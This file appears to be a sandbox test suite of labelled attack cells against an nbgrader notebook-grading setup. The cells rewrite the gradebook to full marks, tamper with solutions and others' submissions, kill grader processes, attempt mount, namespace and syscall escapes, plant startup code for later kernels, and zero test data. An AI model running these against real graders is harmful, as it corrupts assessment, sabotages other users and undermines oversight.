# %% attack: files_everywhere
# A file in each place that is often writable: home, course, temporary folders, site-packages.
# %% own: end
import os
import site

places = [HOME, COURSE, os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "..", "../../..", *site.getsitepackages()]
for place in places:
    try:
        with open(f"{place}/{CANARY}txt", "w") as file:
            file.write("# nothing")
    except OSError as error:
        print(error)

# %% attack: gradebook_written
# Full marks for everybody, by the absolute path of the gradebook.
# %% own: end
import sqlite3

try:
    with sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True) as gradebook:
        gradebook.execute("update grade set manual_score = 1, extra_credit = 5")
        gradebook.execute("update comment set manual_comment = ?", (CANARY,))
except sqlite3.Error as error:
    print(error)

# %% attack: gradebook_by_relative_path
# Full marks by the way from the folder in which nbgrader runs a notebook.
# %% own: end
import os
import sqlite3

for depth in range(1, 8):
    path = "../" * depth + "gradebook.db"
    if os.path.exists(path):
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("update grade set manual_score = 1")

# %% attack: solutions_overwritten
# The instructor's notebook and settings, and the others' submissions, with a line more.
# %% own: end
import glob

for pattern in ("/solutions/attacked/*", "/nbgrader_config.py", "/submitted/*/attacked/*"):
    for path in glob.glob(COURSE + pattern) + glob.glob("../../.." + pattern):
        if CANARY[7:-1] not in path:
            try:
                with open(path, "a") as file:
                    file.write(" " if path.endswith("ipynb") else "\n# " + CANARY)
                if path.endswith("ipynb"):
                    text = open(path).read().replace('"nbformat_minor"', '"' + CANARY + '": 1, "nbformat_minor"', 1)
                    open(path, "w").write(text)
            except OSError as error:
                print(error)

# %% attack: notebook_replaced_by_a_link
# A link in place of the notebook and its data: who writes the result follows it.
# %% own: end
import os

for name in ("sheet.ipynb", "samples.csv"):
    try:
        os.path.exists(name) and os.remove(name)
        os.symlink(DIARY, name)
    except OSError as error:
        print(error)

# %% attack: modes_changed
# Everything in the home is opened to everybody.
# %% own: end
import os

for path in (DIARY, HOME, COURSE + "/gradebook.db", COURSE):
    try:
        os.chmod(path, 0o777)
        os.chown(path, 65534, 65534)
    except OSError as error:
        print(error)

# %% attack: devices_and_mounts
# Device nodes, mounts over the course, another root.
# %% own: end
import ctypes
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
for place in (".", HOME):
    try:
        os.mknod(f"{place}/{CANARY}disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0))
        print(os.pread(os.open(f"{place}/{CANARY}disk", os.O_RDONLY), 512, 0)[:8])
    except OSError as error:
        print(error)
print("mount", libc.mount(b"none", HOME.encode(), b"tmpfs", 0, None), ctypes.get_errno())
print("bind", libc.mount(HOME.encode(), b"/mnt", None, 4096, None), ctypes.get_errno())
print("chroot", libc.chroot(HOME.encode()), ctypes.get_errno())

# %% attack: namespaces
# Namespaces of its own, with all capabilities in them, and those of the first process.
# %% own: end
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
for name in ("mnt", "pid", "net", "user"):
    try:
        print(name, libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0), ctypes.get_errno())
    except OSError as error:
        print(error)
child = os.fork()
if child == 0:
    libc.unshare(0x10000000 | 0x00020000)  # user and mount
    libc.mount(b"none", b"/", None, 1 << 18 | 16384, None)
    libc.umount2(b"/home", 2)
    os._exit(0)
os.waitpid(child, 0)
line = f"echo inside > {HOME}/{CANARY}txt"
print(subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", line], capture_output=True))

# %% attack: keyring_and_kernel_calls
# Rare system calls: keyrings, bpf, io_uring, userfaultfd, perf events, handles of files, modules.
# %% own: end
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
key = libc.syscall(248, b"user", CANARY.encode(), b"x", 1, ctypes.c_int(-4))  # add_key, to the keyring of the user
results = {"add_key": key}
for name, number in {"bpf": 321, "io_uring_setup": 425, "userfaultfd": 323, "perf_event_open": 298,
                     "open_by_handle_at": 304, "init_module": 175, "pidfd_getfd": 438}.items():  # fmt: skip
    results[name] = libc.syscall(number, 0, 0, 0, 0, 0), ctypes.get_errno()
print(results)

# %% attack: graders_killed
# The parent, the first process, and all that have to do with the grading of this sheet are killed.
# destroys: its own processes are among them
# %% own: end
import os

victims = [os.getppid(), 1]
for name in os.listdir("/proc"):
    try:
        if name.isdigit() and int(name) != os.getpid() and b"attacked" in open(f"/proc/{name}/cmdline", "rb").read():
            victims.append(int(name))
    except OSError:
        pass
for pid in victims:
    try:
        os.kill(pid, 9)
    except OSError as error:
        print(error)

# %% attack: planted_for_the_next_kernel
# Code that the next student's kernel, or the next Python, would run at its start.
# %% own: end
import os
import site
from pathlib import Path

cheat = f"# {CANARY}\n"
for path in (
    Path.home() / ".ipython/profile_default/startup" / (CANARY + "py"),
    Path.home() / ".jupyter" / (CANARY + "json"),
    Path(site.getusersitepackages()) / (CANARY + "pth"),
    Path(site.getsitepackages()[0]) / (CANARY + "pth"),
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(cheat)
    except OSError as error:
        print(error)

# %% attack: data_file_rewritten
# The data of the exercise become zeros before the test reads them, and the answer is zero.
# honest: double, slope
# %% own: top
import os

with open("samples.csv.new", "w") as file:
    file.write("0.0,0.0\n0.0,0.0\n")
os.replace("samples.csv.new", "samples.csv")

# %% attack: library_files_rewritten
# The files of the checks, rewritten where they are installed.
# %% own: top
import course_utils.grading as grading

for path in (f"{grading.__path__[0]}/{CANARY}py", f"{grading.__path__[0]}/../{CANARY}py"):
    try:
        with open(path, "x") as file:
            file.write("# nothing")
    except OSError as error:
        print(error)
